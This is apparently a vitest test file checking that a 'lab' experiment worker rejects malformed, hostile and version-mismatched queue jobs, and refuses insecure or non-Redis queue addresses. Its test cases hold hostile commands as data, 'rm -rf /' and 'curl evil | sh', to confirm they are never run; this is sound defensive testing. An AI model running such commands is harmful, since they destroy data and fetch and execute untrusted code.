// What a worker does with jobs it must not run, and which queues `lab` refuses to use.
import { afterEach, describe, expect, it } from 'vitest';
import { existsSync } from 'node:fs';
import { Queue, type Job } from 'bullmq';
import { connectRedis, jobIdOf, parseQueueAddress, projectVersion, QUEUE_NAME, runJobOf } from '@siamese-lab/queue';
import { parseExperimentFile } from '@siamese-lab/runner';
import { lab, tempFolder, writeExperiment } from './helpers.ts';
import { startLab, tinySweep, type LabProcess } from './queue-helpers.ts';
import { haveRedis, startRedis, type RedisServer } from './redis-server.ts';

let server: RedisServer | undefined;
let worker: LabProcess | undefined;
afterEach(async () => {
  worker?.kill();
  await server?.stop();
});

async function finished(queue: Queue, job: Job): Promise<{ state: string; reason: string }> {
  for (;;) {
    const state = await job.getState();
    if (state === 'completed' || state === 'failed') return { state, reason: (await queue.getJob(job.id!))!.failedReason ?? '' };
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

// Several `lab` processes training real (tiny) sweeps: minutes on a loaded machine.
describe.skipIf(!haveRedis)('a lab worker and the jobs in its queue', { timeout: 600_000 }, () => {
  it('fails malformed, hostile and other-version jobs with a clear reason and never trains them', async () => {
    server = await startRedis();
    const folder = tempFolder();
    const experiment = parseExperimentFile(writeExperiment(folder, 'one.yaml', tinySweep('guarded', { seeds: 1, steps: 5 })));
    const [run] = experiment.runs;
    const valid = runJobOf('guarded', run, { projectVersion: projectVersion(), allowVersionMismatch: false });
    worker = startLab(['worker', '--queue', server.url, '--threads', '1']);
    await worker.waitFor(/waiting for jobs/);
    const connection = connectRedis(parseQueueAddress(server.url));
    const queue = new Queue(QUEUE_NAME, { connection });
    try {
      const cases: Array<[string, unknown, RegExp]> = [
        ['not-an-object', 'rm -rf /', /malformed job: the job: /],
        ['extra-key', { ...valid, command: 'curl evil | sh' }, /malformed job: .*command/],
        ['bad-format', { ...valid, format: 99 }, /malformed job: format/],
        [
          'unknown-parameter',
          { ...valid, run: { ...valid.run, spec: { ...(run.spec as object), exec: 'x' } } },
          /invalid run parameters: .*exec/,
        ],
        [
          'bad-value',
          { ...valid, run: { ...valid.run, spec: { ...run.spec, training: { ...run.spec.training, steps: -1 } } } },
          /invalid run parameters: field `training.steps`/,
        ],
        [
          'wrong-hash',
          { ...valid, run: { ...valid.run, configHash: '0123456789abcdef' } },
          /hash to [0-9a-f]{16}, not the job's config hash 0123456789abcdef/,
        ],
        [
          'other-version',
          { ...valid, projectVersion: 'deadbeef' },
          /version mismatch: the coordinator runs deadbeef, this worker .*--allow-version-mismatch/,
        ],
      ];
      for (const [name, data, reason] of cases) {
        const job = await queue.add('run', data, { jobId: `hostile__${name}` });
        const result = await finished(queue, job);
        expect(result.state, name).toBe('failed');
        expect(result.reason, name).toMatch(reason);
      }
      expect(worker.stderr()).not.toMatch(/ training /);

      // The coordinator may accept other code explicitly.
      const allowed = await queue.add(
        'run',
        { ...valid, projectVersion: 'deadbeef', allowVersionMismatch: true },
        { jobId: jobIdOf('guarded', run.configHash) },
      );
      expect((await finished(queue, allowed)).state).toBe('completed');
      expect(worker.stderr()).toMatch(/ training guarded /);
      // SIGTERM (or Ctrl-C): the worker finishes its job, lets go of Redis and ends.
      worker.child.kill('SIGTERM');
      expect(await worker.exited).toBe(0);
    } finally {
      await queue.close();
      connection.disconnect();
    }
  });
});

describe('queue addresses lab refuses', () => {
  it('a Redis on another machine without a password, unless --insecure; a URL that is not redis', () => {
    const refused = lab(['worker', '--queue', 'redis://192.0.2.7:6379']);
    expect(refused.status).toBe(2);
    expect(refused.stderr).toMatch(/refusing Redis at 192\.0\.2\.7 without a password/);
    expect(refused.stderr).toMatch(/requirepass/);
    const folder = tempFolder();
    const file = writeExperiment(folder, 'one.yaml', tinySweep('refused', { seeds: 1, steps: 5 }));
    const notRedis = lab(['run', file, '--db', `${folder}/runs.sqlite`, '--queue', 'http://127.0.0.1:6379']);
    expect(notRedis.status).toBe(2);
    expect(notRedis.stderr).toMatch(/--queue must be a redis:\/\/ or rediss:\/\/ URL/);
    expect(existsSync(`${folder}/runs.sqlite`)).toBe(false);
  });
});
